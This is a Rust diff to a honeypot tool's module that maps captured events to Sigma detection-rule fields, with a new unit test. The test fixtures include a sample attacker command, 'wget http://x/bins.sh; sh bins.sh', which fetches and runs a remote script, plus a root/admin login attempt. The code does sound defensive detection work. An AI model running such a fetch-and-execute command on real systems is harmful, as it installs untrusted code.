@@ -12,14 +12,15 @@
 //!
 //! Every event also has `SourceIp`, `SourcePort`, `DestinationIp` and `DestinationPort`.
 
+use std::borrow::Cow;
 use std::path::{Path, PathBuf};
 
 use hpti_core::Event;
 use hpti_core::alert::Severity;
 use hpti_core::event::{EventKind, Protocol};
-use rsigma_eval::{Engine, JsonEvent};
+use rsigma_eval::{Engine, EventValue, JsonEvent};
 use rsigma_parser::{Level, LogSource};
-use serde_json::{Map, Value, json};
+use serde_json::{Map, Value};
 
 /// A matched Sigma rule.
 #[derive(Debug, Clone, PartialEq, Eq)]
@@ -139,11 +140,10 @@ impl SigmaRules {
         self.needs_raw
     }
 
-    /// The rules that match `mapped` (the event as [`sigma_event`] maps it).
-    pub fn matches(&self, mapped: &(Value, LogSource)) -> Vec<SigmaMatch> {
-        let event = JsonEvent::borrow(&mapped.0);
+    /// The rules that match `event` (from `source`).
+    pub fn matches(&self, event: &SigmaEvent<'_>, source: &LogSource) -> Vec<SigmaMatch> {
         self.engine
-            .evaluate_with_logsource(&event, &mapped.1)
+            .evaluate_with_logsource(event, source)
             .into_iter()
             .map(|result| SigmaMatch {
                 severity: match result.header.level {
@@ -174,7 +174,7 @@ fn logsource(product: Option<&str>, category: Option<&str>, service: Option<&str
     }
 }
 
-/// The Sigma field names [`sigma_event`] maps hpti's events to.
+/// The Sigma field names [`SigmaEvent`] maps hpti's events to.
 const MAPPED: &[&str] = &[
     "SourceIp",
     "SourcePort",
@@ -219,120 +219,172 @@ fn detection_fields(
     }
 }
 
-/// The event as Sigma rules see it: Sigma's field names (and, when `raw`, its own JSON
-/// form beneath them), and its logsource.
-pub fn sigma_event(event: &Event, raw: bool) -> (Value, LogSource) {
-    let mut fields = match raw.then(|| serde_json::to_value(event)) {
-        Some(Ok(Value::Object(map))) => map,
-        _ => Map::new(),
-    };
-    let mut put = |name: &str, value: Value| {
-        fields.insert(name.to_owned(), value);
-    };
-    put("SourceIp", json!(event.src_ip.to_string()));
-    if let Some(port) = event.src_port {
-        put("SourcePort", json!(port));
-    }
-    if let Some(ip) = event.dst_ip {
-        put("DestinationIp", json!(ip.to_string()));
-    }
-    if let Some(port) = event.dst_port {
-        put("DestinationPort", json!(port));
-    }
-    let hashes = |sha: &Option<String>| sha.as_ref().map(|s| json!(format!("SHA256={s}")));
-    let source = match &event.kind {
-        EventKind::CommandInput { command } => {
-            put("CommandLine", json!(command));
-            let image = command.split_whitespace().next().unwrap_or_default();
-            put("Image", json!(image));
-            put("User", json!("root"));
-            logsource(Some("linux"), Some("process_creation"), None)
+/// An event as Sigma rules see it: Sigma's field names read from the event when a rule
+/// asks (nothing is built per event), and beneath them, when `raw`, its own JSON form.
+pub struct SigmaEvent<'a> {
+    event: &'a Event,
+    src_ip: &'a str,
+    dst_ip: Option<&'a str>,
+    raw: Option<JsonEvent<'a>>,
+}
+
+impl<'a> SigmaEvent<'a> {
+    /// `event` mapped to Sigma's names; `src_ip` and `dst_ip` as text, and the event's
+    /// JSON form when the rules read hpti's own fields too.
+    pub fn new(
+        event: &'a Event,
+        src_ip: &'a str,
+        dst_ip: Option<&'a str>,
+        raw: Option<&'a Value>,
+    ) -> Self {
+        Self {
+            event,
+            src_ip,
+            dst_ip,
+            raw: raw.map(JsonEvent::borrow),
         }
-        EventKind::LoginAttempt {
-            username,
-            password,
-            method,
-            success,
-            ..
-        } => {
-            put("User", json!(username));
-            put("TargetUserName", json!(username));
-            if let Some(password) = password {
-                put("Password", json!(password));
+    }
+
+    /// The Sigma field `name`, if the event has it.
+    fn mapped(&self, name: &str) -> Option<EventValue<'a>> {
+        let event = self.event;
+        let text = |s: &'a str| Some(EventValue::Str(Cow::Borrowed(s)));
+        let port = |p: Option<u16>| p.map(|p| EventValue::Int(i64::from(p)));
+        match name {
+            "SourceIp" => return text(self.src_ip),
+            "SourcePort" => return port(event.src_port),
+            "DestinationIp" => return self.dst_ip.and_then(text),
+            "DestinationPort" => return port(event.dst_port),
+            _ => {}
+        }
+        let hashes = |sha: &Option<String>| {
+            sha.as_ref()
+                .map(|s| EventValue::Str(Cow::Owned(format!("SHA256={s}"))))
+        };
+        match (&event.kind, name) {
+            (EventKind::CommandInput { command }, "CommandLine") => text(command),
+            (EventKind::CommandInput { command }, "Image") => {
+                text(command.split_whitespace().next().unwrap_or_default())
             }
-            put(
-                "AuthenticationMethod",
-                serde_json::to_value(method).unwrap_or(Value::Null),
-            );
-            put(
-                "Outcome",
-                json!(if *success { "success" } else { "failure" }),
-            );
+            (EventKind::CommandInput { .. }, "User") => text("root"),
+            (EventKind::LoginAttempt { username, .. }, "User" | "TargetUserName") => text(username),
+            (EventKind::LoginAttempt { password, .. }, "Password") => {
+                password.as_deref().and_then(text)
+            }
+            (EventKind::LoginAttempt { method, .. }, "AuthenticationMethod") => {
+                text(method.as_str())
+            }
+            (EventKind::LoginAttempt { success, .. }, "Outcome") => {
+                text(if *success { "success" } else { "failure" })
+            }
+            (EventKind::FileDownload { url, .. }, "c-uri") => text(url),
+            (EventKind::FileDownload { sha256, .. } | EventKind::FileUpload { sha256, .. }, _)
+                if name == "sha256" =>
+            {
+                sha256.as_deref().and_then(text)
+            }
+            (EventKind::FileDownload { sha256, .. } | EventKind::FileUpload { sha256, .. }, _)
+                if name == "Hashes" =>
+            {
+                hashes(sha256)
+            }
+            (EventKind::FileUpload { filename, .. }, "TargetFilename") => text(filename),
+            (EventKind::HttpRequest { method, .. }, "cs-method") => text(method),
+            (EventKind::HttpRequest { uri, .. }, "c-uri") => text(uri),
+            (EventKind::HttpRequest { host, .. }, "cs-host") => host.as_deref().and_then(text),
+            (EventKind::HttpRequest { user_agent, .. }, "cs-user-agent") => {
+                user_agent.as_deref().and_then(text)
+            }
+            (EventKind::HttpRequest { status, .. }, "sc-status") => {
+                status.map(|s| EventValue::Int(i64::from(s)))
+            }
+            (EventKind::ClientVersion { version }, "version") => text(version),
+            (
+                EventKind::ClientFingerprint {
+                    method,
+                    fingerprint,
+                    ..
+                },
+                "hassh",
+            ) if method == "hassh" => text(fingerprint),
+            _ => None,
+        }
+    }
+
+    /// The Sigma fields the event has, with their values.
+    fn mapped_fields(&self) -> impl Iterator<Item = (&'static str, EventValue<'a>)> + '_ {
+        MAPPED
+            .iter()
+            .filter_map(|name| Some((*name, self.mapped(name)?)))
+    }
+}
+
+impl rsigma_eval::Event for SigmaEvent<'_> {
+    fn get_field(&self, path: &str) -> Option<EventValue<'_>> {
+        if let Some(value) = self.mapped(path) {
+            return Some(value);
+        }
+        self.raw.as_ref()?.get_field(path)
+    }
+
+    fn any_string_value(&self, pred: &dyn Fn(&str) -> bool) -> bool {
+        let mut found = false;
+        self.visit_string_values(&mut |s| found = found || pred(s));
+        found
+    }
+
+    fn all_string_values(&self) -> Vec<Cow<'_, str>> {
+        let mut values: Vec<Cow<'_, str>> = Vec::new();
+        for (_, value) in self.mapped_fields() {
+            if let EventValue::Str(s) = value {
+                values.push(Cow::Owned(s.into_owned()));
+            }
+        }
+        if let Some(raw) = &self.raw {
+            values.extend(raw.all_string_values());
+        }
+        values
+    }
+
+    fn visit_string_values(&self, visit: &mut dyn FnMut(&str)) {
+        for (_, value) in self.mapped_fields() {
+            if let EventValue::Str(s) = value {
+                visit(&s);
+            }
+        }
+        if let Some(raw) = &self.raw {
+            raw.visit_string_values(visit);
+        }
+    }
+
+    fn to_json(&self) -> Value {
+        let mut fields = match self.raw.as_ref().map(rsigma_eval::Event::to_json) {
+            Some(Value::Object(map)) => map,
+            _ => Map::new(),
+        };
+        for (name, value) in self.mapped_fields() {
+            fields.insert(name.to_owned(), value.to_json());
+        }
+        Value::Object(fields)
+    }
+}
+
+/// The logsource of `event`, by its kind (the table at the top of this file).
+pub fn sigma_logsource(event: &Event) -> LogSource {
+    match &event.kind {
+        EventKind::CommandInput { .. } => logsource(Some("linux"), Some("process_creation"), None),
+        EventKind::LoginAttempt { .. } => {
             let service = match event.protocol {
                 Protocol::Ssh => "sshd",
                 _ => event.protocol.as_str(),
             };
             logsource(Some("linux"), None, Some(service))
         }
-        EventKind::FileDownload { url, sha256, .. } => {
-            put("c-uri", json!(url));
-            if let Some(sha) = sha256 {
-                put("sha256", json!(sha));
-            }
-            if let Some(h) = hashes(sha256) {
-                put("Hashes", h);
-            }
-            logsource(Some("linux"), Some("proxy"), None)
-        }
-        EventKind::FileUpload {
-            filename, sha256, ..
-        } => {
-            put("TargetFilename", json!(filename));
-            if let Some(sha) = sha256 {
-                put("sha256", json!(sha));
-            }
-            if let Some(h) = hashes(sha256) {
-                put("Hashes", h);
-            }
-            logsource(Some("linux"), Some("file_event"), None)
-        }
-        EventKind::HttpRequest {
-            method,
-            uri,
-            host,
-            user_agent,
-            status,
-        } => {
-            put("cs-method", json!(method));
-            put("c-uri", json!(uri));
-            if let Some(host) = host {
-                put("cs-host", json!(host));
-            }
-            if let Some(agent) = user_agent {
-                put("cs-user-agent", json!(agent));
-            }
-            if let Some(status) = status {
-                put("sc-status", json!(status));
-            }
-            logsource(None, Some("webserver"), None)
-        }
-        EventKind::ClientVersion { version } => {
-            put("version", json!(version));
-            logsource(Some("hpti"), Some("client.version"), None)
-        }
-        EventKind::ClientFingerprint {
-            method,
-            fingerprint,
-            ..
-        } => {
-            if method == "hassh" {
-                put("hassh", json!(fingerprint));
-            }
-            logsource(Some("hpti"), Some("client.fingerprint"), None)
-        }
+        EventKind::FileDownload { .. } => logsource(Some("linux"), Some("proxy"), None),
+        EventKind::FileUpload { .. } => logsource(Some("linux"), Some("file_event"), None),
+        EventKind::HttpRequest { .. } => logsource(None, Some("webserver"), None),
         other => logsource(Some("hpti"), Some(other.name()), None),
-    };
-    (Value::Object(fields), source)
+    }
 }
 
 /// The Sigma files `patterns` name, relative to `dir`.
@@ -358,4 +410,111 @@ pub fn sigma_files(patterns: &[String], dir: &Path) -> Result<Vec<PathBuf>, Stri
     files.sort();
     files.dedup();
     Ok(files)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use hpti_core::event::AuthMethod;
+    use rsigma_eval::Event as _;
+
+    fn events() -> Vec<Event> {
+        let ip = "203.0.113.7".parse().unwrap();
+        let make = |kind| {
+            Event::new("ssh-1", Protocol::Ssh, ip, kind)
+                .with_source_port(40022)
+                .with_destination("192.0.2.10".parse().unwrap(), 22)
+        };
+        vec![
+            make(EventKind::CommandInput {
+                command: "wget http://x/bins.sh; sh bins.sh".into(),
+            }),
+            make(EventKind::LoginAttempt {
+                username: "root".into(),
+                password: Some("admin".into()),
+                method: AuthMethod::Password,
+                key_type: None,
+                key_fingerprint: None,
+                success: true,
+            }),
+            make(EventKind::FileDownload {
+                url: "http://x/bins.sh".into(),
+                sha256: Some("ab".repeat(32)),
+                size: Some(10),
+                error: None,
+            }),
+            make(EventKind::ClientVersion {
+                version: "SSH-2.0-Go".into(),
+            }),
+            make(EventKind::SessionStarted),
+        ]
+    }
+
+    /// The fields read one by one are the fields of the materialized form, raw or not,
+    /// and a sample of them reads as the mapping table says.
+    #[test]
+    fn the_lazy_event_reads_as_its_json_form() {
+        for event in events() {
+            let json = serde_json::to_value(&event).unwrap();
+            for raw in [None, Some(&json)] {
+                let lazy = SigmaEvent::new(&event, "203.0.113.7", Some("192.0.2.10"), raw);
+                let whole = lazy.to_json();
+                let eager = JsonEvent::borrow(&whole);
+                let mut names: Vec<String> = MAPPED.iter().map(|s| (*s).to_owned()).collect();
+                names.extend(
+                    ["src_ip", "kind", "data.command", "data.username", "nope"].map(String::from),
+                );
+                for name in &names {
+                    assert_eq!(
+                        lazy.get_field(name),
+                        eager.get_field(name),
+                        "{name} of {} (raw: {})",
+                        event.kind.name(),
+                        raw.is_some()
+                    );
+                }
+                let mut lazy_strings: Vec<String> = lazy
+                    .all_string_values()
+                    .into_iter()
+                    .map(Cow::into_owned)
+                    .collect();
+                let mut eager_strings: Vec<String> = eager
+                    .all_string_values()
+                    .into_iter()
+                    .map(Cow::into_owned)
+                    .collect();
+                lazy_strings.sort();
+                eager_strings.sort();
+                if raw.is_none() {
+                    assert_eq!(lazy_strings, eager_strings, "{}", event.kind.name());
+                } else {
+                    // Beneath the mapped fields the event's own repeat some values.
+                    for s in &eager_strings {
+                        assert!(lazy_strings.contains(s), "{s}");
+                    }
+                }
+            }
+        }
+        let all = events();
+        let view = |e| SigmaEvent::new(e, "203.0.113.7", None, None);
+        let text = |v: Option<EventValue<'_>>| v.and_then(|v| v.as_str().map(Cow::into_owned));
+        assert_eq!(
+            text(view(&all[0]).get_field("Image")).as_deref(),
+            Some("wget")
+        );
+        assert_eq!(
+            text(view(&all[1]).get_field("Outcome")).as_deref(),
+            Some("success")
+        );
+        assert_eq!(
+            text(view(&all[2]).get_field("Hashes")),
+            Some(format!("SHA256={}", "ab".repeat(32)))
+        );
+        assert_eq!(view(&all[1]).get_field("DestinationIp"), None);
+        assert_eq!(sigma_logsource(&all[1]).service.as_deref(), Some("sshd"));
+        assert_eq!(
+            sigma_logsource(&all[3]).category.as_deref(),
+            Some("client.version")
+        );
+    }
 }
